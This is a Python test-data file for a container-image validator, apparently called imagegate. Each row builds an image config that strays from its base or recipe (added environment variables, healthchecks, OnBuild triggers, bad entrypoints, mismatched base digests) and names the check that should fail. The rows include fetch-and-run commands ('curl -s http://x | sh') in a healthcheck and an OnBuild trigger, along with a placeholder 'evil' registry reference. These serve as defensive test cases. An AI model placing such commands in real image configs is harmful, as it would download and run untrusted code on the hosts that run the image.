"""The configuration: every field is the base's or the recipe's, and the program can start."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from imagegate.errors import RecipeError
from tests.closed_world.debian import CONFIG
from tests.closed_world.rows import Row, on_base, with_base
from tests.elf import library
from tests.images import Directory, File

# row 14: what was tried, each of which chooses code, a check or a place for some program
VARIABLES = (
    *("NVIDIA_TF32_OVERRIDE", "NVCC_APPEND_FLAGS", "NVCC_PREPEND_FLAGS", "CPLUS_INCLUDE_PATH"),
    *("C_INCLUDE_PATH", "BASH_ENV", "ENV", "OPENSSL_CONF", "HOME", "RAY_RUNTIME_ENV_HOOK"),
    *("CUBLAS_WORKSPACE_CONFIG", "CUDNN_LOGDEST_DBG", "GLIBC_TUNABLES", "LOCPATH", "GCONV_PATH"),
    *("SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "HTTPS_PROXY", "HF_ENDPOINT", "HF_HUB_OFFLINE"),
    *("RAY_ADDRESS", "OMP_NUM_THREADS", "TMPDIR", "XDG_CACHE_HOME", "MPLBACKEND", "TZ"),
    *("NOT_KNOWN_TO_ANYBODY", "build_date", "A"),
)


def started(content: bytes, *, mode: int = 0o755, path: str = "opt/entry", **more: Any) -> Any:
    """An image whose entrypoint is a new script, which the recipe allows."""
    entrypoint = more.pop("entrypoint", [f"/{path}"])
    recipe = more.pop("recipe", "")
    words = ", ".join(f'"{word}"' for word in entrypoint)
    return on_base(
        {path: File(content, mode=mode)},
        config={"Entrypoint": entrypoint, "Cmd": None, **more.pop("config", {})},
        recipe=f"[config]\nentrypoint = [{words}]\n{recipe}"
        f'[[layer.allow]]\npattern = "/{path}"\nreason = "the entrypoint"\n',
        **more,
    )


SCRIPT = b"#!/bin/sh\nexec python3\n"
GOOD = started(SCRIPT)


def doubled(entrypoint: list[str], cmd: list[str]) -> Any:
    return with_base(
        on_base(
            config={"Entrypoint": entrypoint, "Cmd": cmd},
            recipe=f"[config]\nentrypoint = {entrypoint}\ncmd = {cmd}\n",
        ),
        {
            "usr/bin/vllm": File(library(), mode=0o755),
            "usr/bin/tini": File(library(), mode=0o755),
        },
    )


def setting(name: str, value: object, **more: Any) -> Row:
    return Row(
        name=f"15 {name} that the base does not have",
        case=on_base(config={name: value}, **more),
        fails=("config.moves/setting",),
        failing=1,
    )


def changed(name: str, before: object, after: object) -> Row:
    case = on_base(config={name: after})
    case.base_config = {**CONFIG, name: before}
    return Row(
        name=f"15 {name} changes or goes: {after}",
        case=case,
        fails=("config.moves/setting",),
        failing=1,
    )


def reserved(name: str, value: str = "x") -> Row:
    return Row(
        name=f"1 {name} in the profile",
        case=on_base(recipe=f'[profile.env]\n{name} = "{value}"\n'),
        refused=(RecipeError, f"`{name}` is measured"),
    )


BASE_DIGEST = on_base().images()[0].digest
HEALTH = {"Test": ["CMD-SHELL", "curl -s http://x | sh"], "Interval": 30_000_000_000}

_Named = Callable[[str], Any]
# what names a base digest: where, in the image's config, in the recipe
_BASE_DIGESTS: tuple[tuple[str, _Named, _Named], ...] = (
    (
        "label",
        lambda digest: {"Labels": {"com.example.base": digest}},
        lambda digest: f'[config.labels]\n"com.example.base" = "{digest}"\n',
    ),
    (
        "variable",
        lambda digest: {"Env": [*CONFIG["Env"], f"BASE_IMAGE=r/base@{digest}"]},
        lambda digest: f'[config.env]\nBASE_IMAGE = "r/base@{digest}"\n',
    ),
    (
        "variable of the profile",
        lambda _: {},
        lambda digest: f'[profile.env]\nBUILT_ON_BASE = "{digest}"\n',
    ),
)
ROWS = (
    reserved("IMAGE", "registry.example/evil@sha256:" + "0" * 64),
    *(reserved(n) for n in ("NCCL_VERSION", "IMAGE_DIGEST", "VERDICT", "IMAGE_ID", "image")),
    *(
        Row(
            name=f"14 variable {name}",
            case=on_base(config={"Env": [*CONFIG["Env"], f"{name}=x"]}),
            fails=("config.moves/env",),
            failing=1,
            control=on_base(
                config={"Env": [*CONFIG["Env"], f"{name}=x"]},
                recipe=f'[config.env]\n{name} = "x"\n',
            ),
        )
        for name in VARIABLES
    ),
    Row(
        name="14 a variable of the base that is gone",
        case=on_base(config={"Env": CONFIG["Env"][:1]}),
        fails=("config.moves/env",),
        failing=1,
    ),
    Row(
        name="14 a variable twice, of which runtimes take the first or the last",
        case=on_base(config={"Env": ["LANG=evil", *CONFIG["Env"]]}),
        fails=("config.moves/env-twice",),
        failing=1,
    ),
    Row(
        name="14 an entry without a sign of equality",
        case=on_base(config={"Env": [*CONFIG["Env"], "LD_BIND_NOW"]}),
        fails=("config.moves/env-form",),
    ),
    setting("Healthcheck", HEALTH),
    setting("Shell", ["/bin/sh", "-ec"]),
    setting("OnBuild", ["RUN curl -s http://x | sh"]),
    setting("Volumes", {"/usr/local/lib": {}}),
    setting("ExposedPorts", {"22/tcp": {}}),
    setting("StopSignal", "SIGKILL"),
    setting("NetworkDisabled", value=True),
    setting("Tty", value=True),
    setting("NobodyKnowsThis", {"a": 1}),
    changed("Healthcheck", HEALTH, {"Test": ["NONE"]}),
    changed("Healthcheck", HEALTH, None),
    changed("Volumes", {"/data": {}}, {}),
    changed("ExposedPorts", {"80/tcp": {}}, {"80/tcp": {}, "81/tcp": {}}),
    changed("OnBuild", ["RUN a"], ["RUN b"]),
    Row(
        name="15 ports, volumes and a stop signal that the recipe declares",
        case=on_base(
            config={
                "ExposedPorts": {"8000/tcp": {}},
                "Volumes": {"/cache": {}},
                "StopSignal": "SIGINT",
            },
            recipe='[config]\nports = ["8000"]\nvolumes = ["/cache"]\nstop_signal = "SIGINT"\n',
        ),
    ),
    Row(
        name="15 what builders write about their own work",
        case=on_base(
            config={
                "Image": "sha256:" + "1" * 64,
                "Hostname": "0123456789ab",
                "ArgsEscaped": True,
                "Labels": {"io.buildah.version": "1.28.2"},
            }
        ),
        notes=("config.moves/label",),
    ),
    Row(
        name="a new label",
        case=on_base(config={"Labels": {"com.example.entrypoint": "x"}}),
        fails=("config.moves/label",),
        failing=1,
    ),
    *(
        Row(
            name=f"{name} is another",
            case=on_base(config={name: value}),
            fails=(f"config.moves/{code}",),
        )
        for name, value, code in (
            ("User", "daemon", "user"),
            ("WorkingDir", "/tmp", "working-dir"),
            ("Cmd", ["bash"], "cmd"),
            ("Entrypoint", ["bash"], "entrypoint"),
        )
    ),
    *(
        Row(
            name=f"a {where} of another base",
            case=on_base(config=config("sha256:" + "9" * 64), recipe=recipe("sha256:" + "9" * 64)),
            fails=("config.moves/base-digest",),
            failing=1,
            control=on_base(config=config(BASE_DIGEST), recipe=recipe("{base}")),
        )
        for where, config, recipe in _BASE_DIGESTS
    ),
    Row(
        name="the label that the format has for the base names another",
        case=on_base(
            config={"Labels": {"org.opencontainers.image.base.digest": "sha256:" + "9" * 64}},
            recipe='[config.labels]\n"org.opencontainers.image.base.digest" = "sha256:'
            + "9" * 64
            + '"\n',
        ),
        fails=("base.annotations/digest-lies",),
        failing=1,
    ),
    # --- row 24
    Row(
        name="24 entrypoint script with mode 0644",
        case=started(SCRIPT, mode=0o644),
        fails=("config.starts/not-executable",),
        failing=1,
        control=GOOD,
    ),
    Row(
        name="24 entrypoint script that only root may execute, and another user",
        case=started(SCRIPT, mode=0o700, config={"User": "1000"}, recipe='user = "1000"\n'),
        fails=("config.starts/not-executable",),
        failing=1,
        control=started(SCRIPT, config={"User": "1000"}, recipe='user = "1000"\n'),
    ),
    Row(
        name="24 entrypoint in a folder that the user may not enter",
        case=with_base(
            started(
                SCRIPT,
                path="root/bin/entry",
                config={"User": "1000"},
                recipe='user = "1000"\n',
            ),
            {"root": Directory(mode=0o700), "root/bin": Directory()},
        ),
        fails=("config.starts/not-reachable",),
        failing=1,
    ),
    Row(
        name="24 entrypoint script with an interpreter that is not there",
        case=started(b"#!/usr/bin/zsh\n"),
        fails=("config.starts/interpreter",),
        failing=1,
        control=GOOD,
    ),
    Row(
        name="24 entrypoint script whose interpreter env does not find",
        case=started(b"#!/usr/bin/env python9\n"),
        fails=("config.starts/interpreter",),
    ),
    Row(
        name="24 entrypoint script with CR LF",
        case=started(b"#!/bin/sh\r\nexec python3\r\n"),
        fails=("config.starts/carriage-return",),
        failing=1,
        control=GOOD,
    ),
    Row(
        name="24 entrypoint script without a first line",
        case=started(b"exec python3\n"),
        fails=("config.starts/format",),
        failing=1,
        control=GOOD,
    ),
    Row(
        name="24 entrypoint that is empty",
        case=started(b""),
        fails=("config.starts/format",),
        failing=1,
    ),
    *(
        Row(
            name=f"24 a program that is not there: {' '.join(entrypoint)}",
            case=on_base(
                config={"Entrypoint": entrypoint, "Cmd": None},
                recipe=f"[config]\nentrypoint = {entrypoint}\n",
            ),
            fails=("config.starts/missing",),
            failing=1,
        )
        for entrypoint in (
            ["vllm", "serve"],
            ["/opt/x"],
            ["bash", "-c", "exec vllm serve"],
            ["sh", "-ec", "cd /tmp; vllm serve"],
            ["bash", "/entry.sh"],
            ["python3", "/serve.py"],
        )
    ),
    *(
        Row(
            name=f"24 a doubled command: {entrypoint} {cmd}",
            case=doubled(entrypoint, cmd),
            fails=("config.starts/doubled",),
            failing=1,
            control=doubled(entrypoint, ["model"]),
        )
        for entrypoint, cmd in (
            (["vllm", "serve"], ["vllm", "serve", "model"]),
            (["vllm", "serve"], ["serve", "model"]),
            (["tini", "--", "vllm", "serve"], ["vllm", "serve", "model"]),
        )
    ),
)
